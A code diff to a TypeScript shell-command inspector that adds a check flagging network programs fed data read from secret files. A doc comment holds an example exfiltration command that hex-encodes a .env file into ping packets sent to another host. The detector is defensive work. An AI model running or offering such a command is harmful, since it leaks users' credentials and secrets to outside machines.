@@ -69,7 +69,7 @@ export class Inspection implements Into {
   #assignments(call: Call): readonly Finding[] {
     return call.command.assignments.flatMap(({ name, value }) => {
       const values = value === undefined ? [undefined] : expandValue(value, call.command);
-      return values.flatMap((each) => variableFindings(name, each && textOf(each), call, each ?? call));
+      return values.flatMap((each) => variableFindings(name, each, call, each ?? call));
     });
   }
 
@@ -124,7 +124,25 @@ export class Inspection implements Into {
     const asked = `--version --help ${program.asked ?? ""}`.split(" ").includes((only && textOf(only)) ?? " ");
     if (sure && asked && others.length === 0 && call.input.kind === "terminal")
       return [finding(call, "low", ["read"], "tells about itself")];
-    return sure ? judge(program, call) : [...this.#unknownProgram(call), ...judge(program, call)];
+    const judged = judge(program, call);
+    const found = sure ? judged : [...this.#unknownProgram(call), ...judged];
+    return [...found, ...this.#sent(call, judged)];
+  }
+
+  /** `ping -p "$(xxd -p .env)" x`: what a program that talks to other machines is given of files with secrets. */
+  #sent(call: Call, found: readonly Finding[]): readonly Finding[] {
+    if (!found.some(({ risk, effects }) => risk !== "low" && effects.includes("network"))) return [];
+    const given = call.args.flatMap(({ parts }) =>
+      parts.flatMap((part) => (part.kind === "unknown" ? (part.from ?? []) : [])),
+    );
+    const piped = call.input.kind === "pipe" ? call.input.from : [];
+    const read = [
+      ...[...given, ...piped].flatMap((command) => this.command(command, call)),
+      ...this.#redirections(call),
+    ];
+    return read.some(({ effects }) => effects.includes("read") && effects.includes("secret"))
+      ? [finding(call, "high", ["network", "secret"], "may send to another machine what holds secrets")]
+      : [];
   }
 
   #unknownProgram(call: Call): readonly Finding[] {
